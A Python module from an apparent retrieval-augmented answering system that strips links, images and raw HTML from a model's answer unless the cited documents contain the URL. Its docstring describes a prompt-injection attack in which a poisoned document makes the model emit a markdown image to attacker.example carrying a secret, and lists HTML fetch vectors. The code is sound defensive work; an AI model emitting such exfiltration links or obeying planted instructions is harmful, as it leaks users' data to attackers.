"""Answers are data: an answer links only to URLs that the documents it cites contain.

A chat UI renders the answer as markdown, and a markdown image is fetched as soon as it is shown.
A poisoned document can ask the model to write ``![](https://attacker.example/p.png?q=<secret>)``;
the prompt marks documents as data (:mod:`ragline.query.answer.prompt`), and this is the second line of
defence, on the final answer text, whichever generator wrote it. Images, links, reference
definitions, autolinks and bare URLs whose URL is not present in the cited chunks are taken out: an
image entirely, a link down to its text, a bare or autolinked URL replaced by the text
``link_removed`` of :mod:`ragline.query.answer.texts` in the question's language. Only
``http``, ``https`` and ``mailto`` URLs (and relative ones) can be kept at all: ``javascript:``/
``data:`` never are, even when a document contains them.

An answer needs no raw HTML, and HTML can fetch or run without any URL the link rules would see
(event handlers, ``style`` with ``url()``, ``<meta http-equiv=refresh>``, ``<iframe srcdoc>``,
``@import``). So outside code, every ``<`` that could open a tag, comment or declaration is
written as ``&lt;`` (a tag whose URL is not in the cited chunks is dropped first, and counted as
removed): a Markdown renderer shows the text and builds no element. Code spans and fenced code
blocks keep their ``<`` as written, since a renderer never reads HTML there; where this module and
a renderer could disagree about what is code (a fence inside a list item or a quote, a code span
over several lines), the text counts as prose and is escaped. Pure functions.
"""

from __future__ import annotations

import html
import re
from urllib.parse import urlsplit

from ragline.query.answer import texts

_SAFE_SCHEMES = frozenset({"http", "https", "mailto"})
_TITLE = r"""(?:\s+(?:"[^"]*"|'[^']*'|\([^()]*\)))?"""
_DEST = r"\s*(?:<(?P<adest>[^<>\n]*)>|(?P<dest>[^\s()<>]*(?:\([^\s()<>]*\)[^\s()<>]*)*))" + _TITLE + r"\s*"
_IMAGE = re.compile(r"!\[(?P<text>[^\[\]]*)\]\(" + _DEST + r"\)")
_LINK = re.compile(r"\[(?P<text>[^\[\]]*)\]\(" + _DEST + r"\)")
_REF_DEF = re.compile(
    r"""^ {0,3}\[(?P<label>[^\[\]]+)\]:[ \t]*<?(?P<dest>[^\s<>]+)>?"""
    r"""(?:[ \t]+(?:"[^"\n]*"|'[^'\n]*'|\([^()\n]*\)))?[ \t]*$\n?""",
    re.MULTILINE,
)
_AUTOLINK = re.compile(r"<(?P<dest>[a-zA-Z][a-zA-Z0-9+.-]{1,31}:[^<>\s]*)>")
_TAG = re.compile(r"<[a-zA-Z][^<>]*>")
_ATTR_URL = re.compile(
    r"""(?:src|href|srcset|poster|data|action|formaction|background)\s*=\s*["']?([^"'\s>]+)""", re.I
)
_BARE = re.compile(
    r"""(?:\b[a-zA-Z][a-zA-Z0-9+.-]{1,31}://|\bwww\.)[^\s<>()\[\]"'`«»]+(?:\([^\s<>()]*\)[^\s<>()\[\]"'`«»]*)*"""
)
_TRAILING = ".,;:!?'\"»)"
#: a ``<`` a browser or a Markdown renderer reads as the start of markup: a tag, an end tag, a
#: comment, a declaration or CDATA, a processing instruction
_MARKUP_START = re.compile(r"<(?=[a-zA-Z/!?])")
#: a fence that opens a code block: only at the start of a line (inside a list item or a quote a
#: fence ends with its container, which this module does not track, so it is not trusted there)
_FENCE_OPEN = re.compile(r"^(?P<fence>`{3,}|~{3,})(?P<info>[^\n]*)$")
_FENCE_CLOSE = re.compile(r"^ {0,3}(?P<fence>`{3,}|~{3,})[ \t]*$")
_PUNCT = frozenset("!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~")
_CONTROL = re.compile(r"[\x00-\x20\x7f]+")


def _norm(url: str) -> str:
    return url.strip().rstrip(_TRAILING)


def source_urls(sources: list[str]) -> set[str]:
    """Every URL written in the cited chunks (bare, autolinked or as a markdown destination)."""
    found: set[str] = set()
    for text in sources:
        found.update(_norm(m.group(0)) for m in _BARE.finditer(text))
        for pattern in (_LINK, _IMAGE):
            for m in pattern.finditer(text):
                found.add(_norm(m.group("adest") or m.group("dest") or ""))
    found.discard("")
    return found


def allowed(url: str, sources: list[str], urls: set[str] | None = None) -> bool:
    """Whether an answer may keep ``url``: a safe scheme, and the URL is in the cited chunks
    (an absolute URL as a whole; a relative one as written)."""
    # what a browser would fetch: entities decoded, control characters and spaces dropped,
    # backslashes read as slashes (a leading double backslash is "//host")
    plain = _CONTROL.sub("", html.unescape(url)).replace("\\", "/")
    scheme = urlsplit(plain).scheme.lower() if ":" in plain else ""
    if scheme and scheme not in _SAFE_SCHEMES:
        return False
    if not _norm(url):
        return False
    if scheme or plain.startswith("//") or plain.lower().startswith("www."):
        return _norm(url) in (source_urls(sources) if urls is None else urls)
    # a relative URL counts only as a whole token ("x" is not in "example")
    token = re.compile(r"(?<![\w/.%-])" + re.escape(_norm(url)) + r"(?![\w/.%-])")
    return any(token.search(text) for text in sources)


def _inline_regions(line: str, offset: int) -> list[tuple[int, int]]:
    """Code spans and autolinks of one line of prose, as ``(start, end)`` in the whole text.

    Read left to right as CommonMark does: a backslash-escaped backtick opens nothing; a run of
    backticks opens a span closed by the next run of the same length, or is plain text; an
    autolink is one unit (backticks inside it open nothing)."""
    regions: list[tuple[int, int]] = []
    i, n = 0, len(line)
    while i < n:
        ch = line[i]
        if ch == "\\" and i + 1 < n and line[i + 1] in _PUNCT:
            i += 2
        elif ch == "`":
            j = i
            while j < n and line[j] == "`":
                j += 1
            run = j - i
            close = next(
                (m for m in re.finditer(r"`+", line[j:]) if len(m.group(0)) == run),
                None,
            )
            if close is None:
                i = j
            else:
                regions.append((offset + i, offset + j + close.end()))
                i = j + close.end()
        elif ch == "<" and (m := _AUTOLINK.match(line, i)):
            regions.append((offset + i, offset + m.end()))
            i = m.end()
        else:
            i += 1
    return regions


def code_regions(text: str) -> list[tuple[int, int]]:
    """The parts of ``text`` a Markdown renderer shows as written, never as HTML: fenced code
    blocks (an unclosed fence runs to the end, as in CommonMark), code spans within one line, and
    autolinks; sorted ``(start, end)`` offsets."""
    regions: list[tuple[int, int]] = []
    pos = 0
    fence: tuple[str, int, int] | None = None  # (character, length, start offset)
    for line in text.splitlines(keepends=True):
        body = line.rstrip("\r\n")
        if fence is None:
            m = _FENCE_OPEN.match(body)
            # a backtick fence's info string holds no backtick (otherwise it is a code span)
            if m and not (m.group("fence")[0] == "`" and "`" in m.group("info")):
                fence = (m.group("fence")[0], len(m.group("fence")), pos)
            else:
                regions += _inline_regions(body, pos)
        else:
            m = _FENCE_CLOSE.match(body)
            if m and m.group("fence")[0] == fence[0] and len(m.group("fence")) >= fence[1]:
                regions.append((fence[2], pos + len(line)))
                fence = None
        pos += len(line)
    if fence is not None:
        regions.append((fence[2], len(text)))
    return regions


def inert_markup(text: str, keep_tag=lambda tag: True) -> str:
    """``text`` with no raw HTML a renderer would build: outside :func:`code_regions`, each tag
    ``keep_tag`` refuses is dropped, then every ``<`` that could open markup becomes ``&lt;``."""
    out, pos = [], 0

    def prose(piece: str) -> str:
        piece = _TAG.sub(lambda m: m.group(0) if keep_tag(m.group(0)) else "", piece)
        return _MARKUP_START.sub("&lt;", piece)

    for start, end in code_regions(text):
        out += [prose(text[pos:start]), text[start:end]]
        pos = end
    out.append(prose(text[pos:]))
    return "".join(out)


def sanitize_links(answer: str, sources: list[str], lang: str = texts.FALLBACK) -> tuple[str, list[str]]:
    """``answer`` without images, links and URLs that ``sources`` (the texts of the cited chunks)
    do not contain, and the URLs taken out, in order of appearance; a removed URL is marked in
    ``lang``, the question's language."""
    mark = texts.say("link_removed", lang)
    urls = source_urls(sources)
    removed: list[str] = []

    def keep(url: str) -> bool:
        if allowed(url, sources, urls):
            return True
        if url not in removed:
            removed.append(url)
        return False

    def image(m: re.Match) -> str:
        return m.group(0) if keep(m.group("adest") or m.group("dest") or "") else ""

    def link(m: re.Match) -> str:
        if keep(m.group("adest") or m.group("dest") or ""):
            return m.group(0)
        text = m.group("text")
        return f"[{text}]" if text.isdigit() else text  # "[1](url)" keeps its citation

    def ref_def(m: re.Match) -> str:
        return m.group(0) if keep(m.group("dest")) else ""

    def autolink(m: re.Match) -> str:
        return m.group(0) if keep(m.group("dest")) else mark

    def tag(text: str) -> bool:
        inner = _ATTR_URL.findall(text) + [u.group(0) for u in _BARE.finditer(text)]
        return all([keep(u) for u in inner])  # every URL recorded

    def bare(m: re.Match) -> str:
        url = _norm(m.group(0))
        return m.group(0) if keep(url) else mark + m.group(0)[len(url) :]

    out = _IMAGE.sub(image, answer)
    out = _LINK.sub(link, out)
    out = _REF_DEF.sub(ref_def, out)
    out = _AUTOLINK.sub(autolink, out)
    # after the link rules, which can join a "<" to a tag name by removing a link between them
    out = inert_markup(out, tag)
    out = _BARE.sub(bare, out)
    return out, removed
